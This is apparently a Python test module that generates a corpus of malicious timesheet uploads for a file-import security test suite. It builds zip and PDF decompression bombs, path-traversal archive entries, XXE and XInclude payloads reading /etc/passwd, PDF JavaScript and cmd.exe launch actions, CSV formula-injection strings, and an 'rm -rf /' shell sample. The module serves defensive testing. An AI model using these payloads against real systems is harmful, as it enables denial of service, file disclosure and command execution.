"""A deterministic corpus of hostile timesheet uploads, generated in memory (nothing committed).

``hostile_corpus()`` yields ``HostileFile`` items whose bytes are built only when asked
(``item.data()``), so walking the corpus holds one file at a time however large it is.
Families: truncated, renamed, tiny, zip, xml, pdf, csv, xlsx, xls, ods, mutated. Run this module to
print the composition: ``python -m tests.security.hostile_corpus``.
"""

import base64
import csv
import io
import random
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from functools import partial

from tests.security.hostile_formats import (
    ENTITY_PAYLOADS,
    FONT,
    TEXT_PAGE,
    RawEntry,
    crc_of_run,
    deflated_run,
    entry,
    golden,
    golden_paths,
    package_parts,
    part,
    raw_pdf,
    raw_zip,
    repack,
    stream,
    text_pdf,
    with_doctype,
)

MB = 1024 * 1024
XLSX, ODS, XLS = "mensuel_siae.xlsx", "plusieurs_lots.ods", "par_jour_dates.xls"
SHEET = "xl/worksheets/sheet1.xml"
# Text a spreadsheet would run as a formula (OWASP « CSV injection »), as names.
FORMULA_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez ici")',
    "=DDE(\"cmd\";\"/C calc\";\"A1\")",
    "＝1+2",
    "=IMPORTXML(CONCAT(\"http://exemple.invalid/?\";A2);\"//a\")",
)


@dataclass(frozen=True)
class HostileFile:
    """One hostile upload: its name as sent, its family and how to build its bytes."""

    name: str
    family: str
    build: Callable[[], bytes] = field(repr=False, compare=False)
    # Names that must come back as plain text when the file is read at all.
    payload_names: tuple[str, ...] = ()

    def data(self) -> bytes:
        """Build the file's bytes (every call builds them again: nothing is kept)."""
        return self.build()


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


# --- truncated and mutated golden files ---

_FRACTIONS = tuple(i / 20 for i in range(1, 20))
_OFFSETS = (1, 2, 3, 4, 8, 16, 30, 64, 128, 512, 1024)


def _cut(name: str, size: int) -> bytes:
    return golden(name)[:size]


def truncated() -> Iterator[HostileFile]:
    """Every golden file cut at fixed offsets, at every 5 %, and just short of its end."""
    for path in golden_paths():
        length = len(golden(path.name))
        sizes = {n for n in _OFFSETS if n < length} | {int(length * f) for f in _FRACTIONS}
        sizes |= {length - 1, length - 22, length - 100}
        if path.stem == "pdf_scan":
            # Cut scans still open and go through OCR (about a second each): a few suffice.
            sizes = {16, length // 4, length // 2, length * 3 // 4, length - 1}
        for size in sorted(s for s in sizes if 0 < s < length):
            yield HostileFile(f"{path.stem}_coupe_{size}{path.suffix}", "truncated", partial(_cut, path.name, size))


def _mutate(name: str, seed: int) -> bytes:
    data = bytearray(golden(name))
    rng = random.Random(seed)
    for _ in range(rng.randint(1, 12)):
        position = rng.randrange(len(data))
        data[position] = rng.randrange(256)
    return bytes(data)


def mutated() -> Iterator[HostileFile]:
    """Every golden file with a few bytes overwritten at seeded random places."""
    for index, path in enumerate(golden_paths()):
        if path.stem == "pdf_scan":
            continue
        for round_ in range(8):
            seed = index * 100 + round_
            yield HostileFile(f"{path.stem}_altere_{round_}{path.suffix}", "mutated", partial(_mutate, path.name, seed))


# --- renamed files and other formats ---

def _seeded(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


FOREIGN = {
    "exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x02\x00\x00\x00",
    "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
    "tiff": b"II*\x00\x08\x00\x00\x00",
    "bmp": b"BM\x3a\x00\x00\x00\x00\x00\x00\x00\x36\x00\x00\x00",
    "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03",
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "rar": b"Rar!\x1a\x07\x01\x00",
    "html": b"<!DOCTYPE html><html><body><table><tr><td>Nom</td><td>Heures</td></tr></table>",
    "xml": b"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>",
    "shell": b"#!/bin/sh\nrm -rf / --no-preserve-root\n",
    "json": b'{"Nom": "DUPONT", "Heures": 35}',
    "ole_chiffre": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le"),
    "ole_vide": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
}


def _foreign(kind: str) -> bytes:
    return FOREIGN[kind] + _seeded(len(kind), 2048)


def _docx() -> bytes:
    return raw_zip([entry("[Content_Types].xml", b"<Types/>"), entry("word/document.xml", b"<w:document/>")])


def _odt() -> bytes:
    return raw_zip([entry("mimetype", b"application/vnd.oasis.opendocument.text", method=0),
                    entry("content.xml", b"<office:document-content/>")])


def _plain_zip() -> bytes:
    return raw_zip([entry("releve.csv", b"Nom;Heures\nDUPONT;35\n")])


def renamed() -> Iterator[HostileFile]:
    """Golden files under another extension, and other formats under spreadsheet names."""
    suffixes = (".xlsx", ".csv", ".pdf", ".ods", ".xls")
    for path in golden_paths():
        for suffix in suffixes:
            if suffix != path.suffix:
                yield HostileFile(f"{path.stem}_renomme{suffix}", "renamed", partial(golden, path.name))
    for kind in FOREIGN:
        for suffix in (".xlsx", ".pdf"):
            yield HostileFile(f"{kind}_deguise{suffix}", "renamed", partial(_foreign, kind))
    for name, build in (("document_word", _docx), ("texte_libreoffice", _odt), ("archive", _plain_zip)):
        yield HostileFile(f"{name}.xlsx", "renamed", build)
        yield HostileFile(f"{name}.ods", "renamed", build)


def tiny() -> Iterator[HostileFile]:
    """Empty, blank and one-byte files, and magic numbers with nothing after them."""
    samples = [b"", b" ", b"\n", b"\r\n\r\n", b"\x00", b"\xff", b"a", b"=", b";", b'"', b"\t",
               b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"PK", b"PK\x03\x04", b"PK\x05\x06" + bytes(18),
               b"%PDF-", b"%PDF-1.7\n%%EOF", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"\x00" * 64, b" " * 4096]
    for index, data in enumerate(samples):
        for suffix in (".xlsx", ".csv"):
            yield HostileFile(f"minuscule_{index}{suffix}", "tiny", _const(data))


# --- zip bombs and odd archives ---

def _sheet_bomb(size: int) -> bytes:
    """An XLSX whose sheet XML inflates to ``size`` bytes of spaces (ratio about 1000:1)."""
    entries = [entry(name, data) for name, data in package_parts(XLSX) if name != SHEET]
    entries.append(RawEntry(SHEET, deflated_run(b" ", size), size, crc_of_run(b" ", size)))
    return raw_zip(entries)


def _lying_size(declared: int) -> bytes:
    """The sheet's central record claims ``declared`` bytes; the stream inflates to 64 MB."""
    entries = [entry(name, data) for name, data in package_parts(XLSX) if name != SHEET]
    size = 64 * MB
    entries.append(RawEntry(SHEET, deflated_run(b" ", size), declared, crc_of_run(b" ", size),
                            central_size=declared))
    return raw_zip(entries)


def _many_entries(count: int) -> bytes:
    entries = [entry(name, data) for name, data in package_parts(XLSX)]
    entries += [entry(f"xl/media/image{i}.png", b"\x89PNG", method=0) for i in range(count)]
    return raw_zip(entries)


def _overlapping(count: int) -> bytes:
    """Fifield's overlapping bomb: every central record points at one 900 KB kernel."""
    kernel = RawEntry("xl/media/noyau.bin", deflated_run(b"\x00", 900 * 1024), 900 * 1024,
                      crc_of_run(b"\x00", 900 * 1024))
    entries = [entry(name, data) for name, data in package_parts(XLSX)] + [kernel]
    first = len(entries) - 1
    for i in range(count):
        entries.append(RawEntry(f"xl/media/copie{i}.bin", b"", kernel.size, kernel.crc, offset_of=first))
    return raw_zip(entries)


def _with_extra(name: str, data: bytes) -> bytes:
    return repack(XLSX, add={name: data})


def _zip_of(inner_name: str, inner: bytes) -> bytes:
    return raw_zip([entry(inner_name, inner)])


def _traversal(name: str) -> bytes:
    return raw_zip([entry(n, d) for n, d in package_parts(XLSX)] + [entry(name, b"pwned")])


def _duplicate_sheet(second: bytes) -> bytes:
    parts = [entry(n, d) for n, d in package_parts(XLSX)]
    return raw_zip(parts + [entry(SHEET, second)])


def _flagged(flags: int, method: int = 8) -> bytes:
    entries = []
    for name, data in package_parts(XLSX):
        item = entry(name, data)
        if name == SHEET:
            item.flags, item.method = flags, method
        entries.append(item)
    return raw_zip(entries)


def _bad_crc() -> bytes:
    entries = [entry(n, d) for n, d in package_parts(XLSX)]
    for item in entries:
        if item.name == SHEET:
            item.crc ^= 0xDEADBEEF
    return raw_zip(entries)


def _framed(prefix: bytes = b"", suffix: bytes = b"", comment: bytes = b"", declared: int | None = None) -> bytes:
    return raw_zip([entry(n, d) for n, d in package_parts(XLSX)], prefix=prefix, suffix=suffix,
                   comment=comment, declared_count=declared)


def _zip64(force: bool) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in package_parts(XLSX):
            info = zipfile.ZipInfo(name, (2026, 3, 1, 0, 0, 0))
            with archive.open(info, "w", force_zip64=force) as target:
                target.write(data)
    return out.getvalue()


def _zip64_lies() -> bytes:
    """Central records saying 0xFFFFFFFF with a zip64 extra field claiming 16 EB."""
    extra = b"\x01\x00\x10\x00" + (0xFFFFFFFFFFFFFFF0).to_bytes(8, "little") + (12).to_bytes(8, "little")
    entries = []
    for name, data in package_parts(XLSX):
        item = entry(name, data)
        if name == SHEET:
            item.extra, item.central_size, item.central_csize = extra, 0xFFFFFFFF, 0xFFFFFFFF
        entries.append(item)
    return raw_zip(entries)


def zips() -> Iterator[HostileFile]:
    """Zip bombs, nested archives, path traversal, duplicate names and lying headers."""
    items = {
        "bombe_feuille_8mo": partial(_sheet_bomb, 8 * MB),
        "bombe_feuille_150mo": partial(_sheet_bomb, 150 * MB),
        "bombe_feuille_250mo": partial(_sheet_bomb, 250 * MB),
        "taille_mensongere_petite": partial(_lying_size, 3000),
        "taille_mensongere_zero": partial(_lying_size, 0),
        "entrees_1990": partial(_many_entries, 1990),
        "entrees_5000": partial(_many_entries, 5000),
        "chevauchement_300": partial(_overlapping, 300),
        "imbrique_zip": partial(_with_extra, "xl/embeddings/pieces.zip", _plain_zip()),
        "imbrique_xlsx": partial(_with_extra, "xl/embeddings/Feuille1.xlsx", golden(XLSX)),
        "imbrique_gz": partial(_with_extra, "xl/embeddings/x.gz", FOREIGN["gzip"]),
        "imbrique_deguise": partial(_with_extra, "xl/media/image1.png", golden(XLSX)),
        "zip_de_zip": partial(_zip_of, "releve.xlsx", golden(XLSX)),
        "traversee_parent": partial(_traversal, "../../etc/cron.d/evil"),
        "traversee_absolue": partial(_traversal, "/etc/passwd"),
        "traversee_windows": partial(_traversal, "..\\..\\Windows\\win.ini"),
        "traversee_milieu": partial(_traversal, "xl/../../evil.xml"),
        "nom_nul": partial(_traversal, "xl/evil\x00.xml"),
        "doublon_vide": partial(_duplicate_sheet, b""),
        "doublon_doctype": partial(_duplicate_sheet, b'<!DOCTYPE x [<!ENTITY a "b">]><worksheet/>'),
        "doublon_lointain": partial(_duplicate_sheet, part(XLSX, SHEET).replace(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')),
        "chiffre_zipcrypto": partial(_flagged, 0x1),
        "methode_bzip2": partial(_flagged, 0, 12),
        "methode_lzma": partial(_flagged, 0, 14),
        "methode_aes": partial(_flagged, 0x1, 99),
        "methode_inconnue": partial(_flagged, 0, 77),
        "crc_faux": _bad_crc,
        "prefixe_executable": partial(_framed, prefix=FOREIGN["exe"] + bytes(4096)),
        "suffixe_dechets": partial(_framed, suffix=_seeded(7, 4096)),
        "commentaire_64k": partial(_framed, comment=b"x" * 65535),
        "compte_mensonger": partial(_framed, declared=65535),
        "zip64_force": partial(_zip64, True),
        "zip64_mensonger": _zip64_lies,
        "zip_vide": lambda: raw_zip([]),
        "ods_bombe_contenu": partial(lambda: raw_zip(
            [entry(n, d, method=0 if n == "mimetype" else 8) for n, d in package_parts(ODS) if n != "content.xml"]
            + [RawEntry("content.xml", deflated_run(b" ", 120 * MB), 120 * MB, crc_of_run(b" ", 120 * MB))])),
    }
    for name, build in items.items():
        yield HostileFile(f"{name}.xlsx", "zip", build)


# --- XML entity attacks inside the packages ---

_XML_TARGETS = (
    (XLSX, SHEET), (XLSX, "[Content_Types].xml"), (XLSX, "xl/workbook.xml"), (XLSX, "_rels/.rels"),
    (XLSX, "xl/_rels/workbook.xml.rels"), (XLSX, "xl/styles.xml"), (XLSX, "xl/sharedStrings.xml"),
    (ODS, "content.xml"), (ODS, "styles.xml"), (ODS, "META-INF/manifest.xml"),
)
_SHARED_STRINGS = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
                   b'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>DUPONT</t></si></sst>')


def _entity_package(package: str, target: str, payload: str, encoding: str = "utf-8") -> bytes:
    doctype, reference = ENTITY_PAYLOADS[payload]()
    if target == "xl/sharedStrings.xml":
        return repack(package, add={target: with_doctype(_SHARED_STRINGS, doctype, reference, encoding=encoding)})
    return repack(package, {target: with_doctype(part(package, target), doctype, reference, encoding=encoding)})


def _xinclude() -> bytes:
    sheet = part(XLSX, SHEET).replace(
        b"<sheetData>", b'<sheetData><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                        b'href="file:///etc/passwd" parse="text"/>')
    return repack(XLSX, {SHEET: sheet})


def xml_attacks() -> Iterator[HostileFile]:
    """Billion laughs, quadratic blowup and XXE in every part a reader opens."""
    for package, target in _XML_TARGETS:
        stem = "ods" if package == ODS else "xlsx"
        label = target.replace("/", "_").replace("[", "").replace("]", "").replace(".", "_")
        for payload in ENTITY_PAYLOADS:
            yield HostileFile(f"{payload}_{label}.{stem}", "xml", partial(_entity_package, package, target, payload))
        yield HostileFile(f"xxe_utf16_{label}.{stem}", "xml",
                          partial(_entity_package, package, target, "xxe_file", "utf-16"))
    yield HostileFile("xinclude_passwd.xlsx", "xml", _xinclude)


# --- PDFs ---

def _nested(depth: int, opening: bytes, closing: bytes) -> bytes:
    return text_pdf(page_extra=b"/Pieges " + opening * depth + closing * depth)


def _encrypted_pdf() -> bytes:
    # A standard security handler with a user password: nobody can open it without one.
    digest = bytes(range(32))
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /O <" + digest.hex().encode() + b"> /U <" \
              + digest[::-1].hex().encode() + b"> /P -3904 >>"
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", encrypt],
                   trailer=b"/Root 1 0 R /Encrypt 4 0 R /ID [<00112233445566778899aabbccddeeff>"
                           b"<00112233445566778899aabbccddeeff>]")


def _image_pdf(pixels: bytes, width: int, height: int, media_box: bytes = b"[0 0 595 842]") -> bytes:
    image = stream(pixels, b" /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
                           b"/BitsPerComponent 8" % (width, height), compress=True)
    box = media_box.strip(b"[]").split()
    content = b"q %s 0 0 %s 0 0 cm /Im1 Do Q" % (box[2], box[3])
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox " + media_box
                    + b" /Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>",
                    stream(content), image])


def _formula_pdf() -> bytes:
    lines = [b"BT /F1 11 Tf 50 780 Td (Releve mensuel - mars 2026) Tj ET",
             b"BT /F1 11 Tf 50 740 Td (Nom) Tj 200 0 Td (Prenom) Tj 150 0 Td (Heures) Tj ET"]
    for index, payload in enumerate(("=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1+1)")):
        escaped = payload.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("latin-1")
        lines.append(b"BT /F1 11 Tf 50 %d Td (%s) Tj 200 0 Td (Paul) Tj 150 0 Td (%d) Tj ET"
                     % (710 - 25 * index, escaped, 20 + index))
    return text_pdf(content=b"\n".join(lines))


def _kids_loop() -> bytes:
    return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                    b"<< /Type /Pages /Kids [2 0 R] /Parent 2 0 R /Count 1 >>"])


def _xref_loop() -> bytes:
    data = text_pdf()
    return data.replace(b"trailer\n<< ", b"trailer\n<< /Prev 9 ", 1)


def _flate_chain(depth: int) -> bytes:
    content = TEXT_PAGE + b" " * (4 * MB)
    for _ in range(depth):
        content = zlib.compress(content, 9)
    filters = b"[" + b" /FlateDecode" * depth + b"]"
    body = b"<< /Length %d /Filter %s >>\nstream\n" % (len(content), filters) + content + b"\nendstream"
    pdf = text_pdf()
    return pdf.replace(stream(TEXT_PAGE), body, 1)


def _bomb_stream(dictionary: bytes, extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """Return a text PDF whose content stream inflates to 40 MB behind ``dictionary``."""
    content = zlib.compress(TEXT_PAGE + b" " * (40 * MB), 9)
    body = b"<< /Length %d " % len(content) + dictionary + b" >>\nstream\n" + content + b"\nendstream"
    return text_pdf(extra_objects=extra_objects).replace(stream(TEXT_PAGE), body, 1)


def _ruled_maze(blocks: int) -> bytes:
    """Return a PDF of a title and ``blocks`` × 100 strokes: pdfplumber's ruled-table reading chokes."""
    grid = b"".join(b"%d 100 m %d 700 l S 50 %d m 500 %d l S\n" % (x, x, 100 + x, 100 + x)
                    for x in range(50, 500, 9))
    return text_pdf(content=b"BT /F1 11 Tf 50 780 Td (Note de service) Tj ET\n" + grid * blocks, compress=True)


def deep_page_tree(depth: int) -> bytes:
    """Return a one-page PDF whose page sits ``depth`` levels of /Pages down (pypdf recursed)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(depth):
        parent = b" /Parent %d 0 R" % (level + 1) if level else b""
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1%s >>" % (level + 3, parent))
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (depth + 1))
    return raw_pdf(objects)


def pdfs() -> Iterator[HostileFile]:
    """Deep nesting, lying page counts, thousands of pages, broken xref, actions, scans, bombs."""
    js = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\); this.exportDataObject\\({cName: 'a'}\\)) >>"
    launch = b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/C calc) >> >>"
    embedded = (b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(FOREIGN["exe"]) + FOREIGN["exe"]
                + b"\nendstream")
    items = {
        "tableaux_imbriques_100k": partial(_nested, 100_000, b"[", b"]"),
        "dictionnaires_imbriques_50k": partial(_nested, 50_000, b"<< /A ", b">> "),
        "pages_declarees_1M": partial(text_pdf, count=1_000_000),
        "pages_declarees_negatives": partial(text_pdf, count=-1),
        "pages_reelles_3000": partial(text_pdf, pages=3000),
        "pages_reelles_41": partial(text_pdf, pages=41),
        "pages_reelles_40": partial(text_pdf, pages=40),
        "arbre_en_boucle": _kids_loop,
        "xref_a_zero": partial(text_pdf, xref="zero"),
        "xref_absente": partial(text_pdf, xref="missing"),
        "xref_au_dela": partial(text_pdf, xref="beyond"),
        "xref_en_boucle": _xref_loop,
        "sans_catalogue": lambda: raw_pdf([FONT], trailer=b""),
        "chiffre": _encrypted_pdf,
        "javascript": partial(text_pdf, catalog_extra=b"/OpenAction 5 0 R", extra_objects=(js,)),
        "lancement": partial(text_pdf, catalog_extra=b"/OpenAction 5 0 R", extra_objects=(launch,)),
        "action_page": partial(text_pdf, page_extra=b"/AA << /O 5 0 R >>", extra_objects=(js,)),
        "piece_jointe_exe": partial(text_pdf, catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) "
                                                          b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>",
                                    extra_objects=(embedded,)),
        "xfa": partial(text_pdf, catalog_extra=b"/AcroForm << /XFA 5 0 R >>",
                       extra_objects=(stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),)),
        "scan_blanc": partial(_image_pdf, b"\xff" * (200 * 280), 200, 280),
        "scan_bruit": lambda: _image_pdf(_seeded(3, 120 * 160), 120, 160),
        "scan_page_geante": partial(_image_pdf, b"\xff" * (100 * 100), 100, 100, b"[0 0 14400 14400]"),
        "page_geante_texte": partial(text_pdf, media_box=b"[0 0 14400 14400]"),
        "page_milliard": partial(text_pdf, content=b"0 0 m 10 10 l S", media_box=b"[0 0 1000000000 1000000000]"),
        # Lambdas, not partials: the 80 and 200 MB contents are built only when the file is.
        "contenu_bombe_80mo": lambda: text_pdf(content=b"BT /F1 1 Tf 0 0 Td (x) Tj ET\n" * 3_000_000,
                                               compress=True),
        "contenu_blancs_200mo": lambda: text_pdf(content=TEXT_PAGE + b" " * (200 * MB), compress=True),
        "flate_en_chaine": partial(_flate_chain, 3),
        "flate_casse": lambda: text_pdf().replace(stream(TEXT_PAGE), b"<< /Length 40 /Filter /FlateDecode >>\n"
                                                  b"stream\n" + _seeded(5, 40) + b"\nendstream", 1),
        # Issue #12: the stream guard's three bypasses, pdfplumber's fallback, a deep page tree.
        "flate_nom_echappe": partial(_bomb_stream, b"/Filter /F#6cateDecode"),
        "flate_dictionnaire_5ko": partial(_bomb_stream, b"/Filter /FlateDecode /Pad (" + b"x" * 5000 + b")"),
        "flate_filtre_indirect": partial(_bomb_stream, b"/Filter 5 0 R", (b"/FlateDecode",)),
        "flate_filtre_indirect_tableau": partial(_bomb_stream, b"/Filter [5 0 R]", (b"/FlateDecode",)),
        "traits_400k": partial(_ruled_maze, 4000),
        "arbre_pages_101_niveaux": partial(deep_page_tree, 101),
        "noms_formules": _formula_pdf,
        "entete_decale": lambda: b"x" * 900 + text_pdf(),
        "polyglotte_zip": lambda: golden(XLSX)[:200] + b"%PDF-1.7\n" + golden(XLSX)[200:],
    }
    for name, build in items.items():
        payloads = ("=cmd|' /C calc'!A0", "+SUM(1+1)", "@SUM(1+1)") if name == "noms_formules" else ()
        yield HostileFile(f"{name}.pdf", "pdf", build, payloads)


# --- CSV ---

def _csv(rows: list[list[str]], delimiter: str = ";", encoding: str = "utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def _formula_rows() -> list[list[str]]:
    rows = [["Relevé mensuel", "mars 2026"], [], ["Nom", "Prénom", "Heures travaillées"]]
    rows += [[payload, "Paul", str(10 + index)] for index, payload in enumerate(FORMULA_PAYLOADS)]
    return rows


_PLAIN = [["Nom", "Prénom", "Heures travaillées"], ["DUPONT", "Marie", "35"], ["MARTIN", "Paul", "20,5"]]


def csvs() -> Iterator[HostileFile]:
    """Huge lines and columns, NUL bytes, broken encodings, BOMs and formula payloads."""
    plain = _csv(_PLAIN)
    items = {
        "ligne_unique_10mo": (lambda: b"Nom;Heures;" + b"a" * (10 * MB - 11), ()),
        "ligne_separateurs_10mo": (lambda: b"Nom;Heures\n" + b"x;" * (5 * MB - 6), ()),
        "guillemets_10mo": (lambda: (b'"a";"b",\'c\'\t' * 900_000)[:10 * MB], ()),
        "guillemets_1mo_30_lignes": (lambda: (b'"a";"b",\'c\'\t' * 3_000 + b"\n") * 29, ()),
        "trop_grand_10mo_plus_1": (lambda: b"Nom;Heures\n" + b"DUPONT;7\n" * (10 * MB // 9), ()),
        "colonnes_100000": (lambda: b";".join(b"c%d" % i for i in range(100_000)) + b"\nDUPONT;35\n", ()),
        "colonnes_100000_ligne_2": (lambda: b"Nom;Heures\n" + b"DUPONT" + b";7" * 100_000 + b"\n", ()),
        "lignes_25000": (lambda: b"Nom;Heures\n" + b"DUPONT;7\n" * 25_000, ()),
        "champ_200ko": (lambda: b"Nom;Heures\nDUPONT;" + b"7" * 200_000 + b"\n", ()),
        "guillemet_non_ferme": (lambda: b'Nom;Heures\n"DUPONT;35\nMARTIN;20\n', ()),
        "nul_en_tete": (lambda: b"Nom;Heures\x00\nDUPONT;35\n", ()),
        "nul_apres_2ko": (lambda: b"Nom;Heures\n" + b"DUPONT;35\n" * 300 + b"\x00MARTIN;2\n", ()),
        "nul_partout": (lambda: plain.replace(b"", b"\x00")[:4096], ()),
        "utf8_invalide": (lambda: plain + b"\xc3\x28;\xa0\xa1;\xed\xa0\x80\n", ()),
        "melange_utf8_cp1252": (lambda: plain + "GÉRARD;Zoé;7\n".encode("cp1252") + "ÉLODIE;Inès;7\n".encode(), ()),
        "utf16le_bom": (lambda: _csv(_PLAIN, encoding="utf-16"), ()),
        "utf16le_sans_bom": (lambda: _csv(_PLAIN, encoding="utf-16-le"), ()),
        "utf16be_bom": (lambda: b"\xfe\xff" + _csv(_PLAIN, encoding="utf-16-be"), ()),
        "utf16_impair": (lambda: b"\xff\xfe" + _csv(_PLAIN, encoding="utf-16-le") + b"\x00", ()),
        "utf32_bom": (lambda: _csv(_PLAIN, encoding="utf-32"), ()),
        "double_bom": (lambda: b"\xef\xbb\xbf\xef\xbb\xbf" + plain, ()),
        "bom_au_milieu": (lambda: plain + b"\xef\xbb\xbfDURAND;Luc;3\n", ()),
        "cr_seuls": (lambda: plain.replace(b"\r\n", b"\r"), ()),
        # Issue #12: CR-only line endings once escaped the row limit (400 000 rows, a 172 MB preview).
        "cr_seuls_400000_lignes": (lambda: b"Nom;Pr\xe9nom;Heures\r" + b"DUPONT;Marie;7\r" * 400_000, ()),
        "crlf_et_cr_25000_lignes": (lambda: b"Nom;Heures\r\n" + b"DUPONT;7\r\nMARTIN;3\r" * 12_500, ()),
        "controles": (lambda: plain + bytes(range(1, 32)) + b";x;1\n", ()),
        "separateurs_melanges": (lambda: b"Nom;Heures,Prenom\tX|Y\nDUPONT,35;Marie\t1|2\n" * 50, ()),
        "sniffer_piege": (lambda: b"'a'" + b",'b'" * 3000 + b"\n", ()),
        "formules_noms": (lambda: _csv(_formula_rows()), FORMULA_PAYLOADS),
        # Payloads hold « ; » too: the separator is then ambiguous, reading it is not required.
        "formules_noms_virgule": (lambda: _csv(_formula_rows(), ","), ()),
        "formules_noms_cp1252": (lambda: _csv([r for r in _formula_rows() if "＝" not in "".join(r)],
                                              encoding="cp1252"), tuple(p for p in FORMULA_PAYLOADS if "＝" not in p)),
        "formules_tabulation": (lambda: _csv([["Nom", "Prénom", "Heures"], ["\t=1+2", "\r=3+4", "7"]]), ()),
        "html_deguise": (lambda: b"<table><tr><td>Nom</td></tr></table>", ()),
    }
    for name, (build, payloads) in items.items():
        yield HostileFile(f"{name}.csv", "csv", build, tuple(p.strip() for p in payloads))


# --- XLSX specifics ---

def _sheet_with(rows_xml: bytes, dimension: bytes | None = None) -> bytes:
    sheet = part(XLSX, SHEET).replace(b"</sheetData>", rows_xml + b"</sheetData>")
    if dimension is not None:
        sheet = sheet.replace(b'<dimension ref="A1:G15"/>', b'<dimension ref="' + dimension + b'"/>')
    return repack(XLSX, {SHEET: sheet})


def _xml_text(text: str) -> bytes:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode("utf-8")


def _formula_cells() -> bytes:
    rows = b""
    for index, payload in enumerate(FORMULA_PAYLOADS):
        row = 20 + index
        rows += (b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c>'
                 b'<c r="B%d" t="inlineStr"><is><t>Paul</t></is></c><c r="D%d"><v>%d</v></c></row>'
                 % (row, row, _xml_text(payload), row, row, 10 + index))
    # And true formulas (no cached value) where names go: they must not run, only be empty.
    rows += (b'<row r="40"><c r="A40"><f>HYPERLINK("http://exemple.invalid/","x")</f></c>'
             b'<c r="B40" t="str"><f>CALL("kernel32","WinExec","JCJ","calc",0)</f><v>Paul</v></c>'
             b'<c r="D40"><v>7</v></c></row>')
    return _sheet_with(rows)


def _shared_strings(unique: int) -> bytes:
    content_types = part(XLSX, "[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    sst = _SHARED_STRINGS.replace(b'uniqueCount="1"', b'uniqueCount="%d"' % unique)
    return repack(XLSX, {"[Content_Types].xml": content_types}, add={"xl/sharedStrings.xml": sst})


def _external_link() -> bytes:
    rels = part(XLSX, "xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>", b'<Relationship Id="rId90" Type="http://schemas.openxmlformats.org/officeDocument/'
                             b'2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
                             b"</Relationships>")
    link = (b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/>'
            b"</externalLink>")
    link_rels = (b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                 b'relationships/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/>'
                 b'</Relationships>')
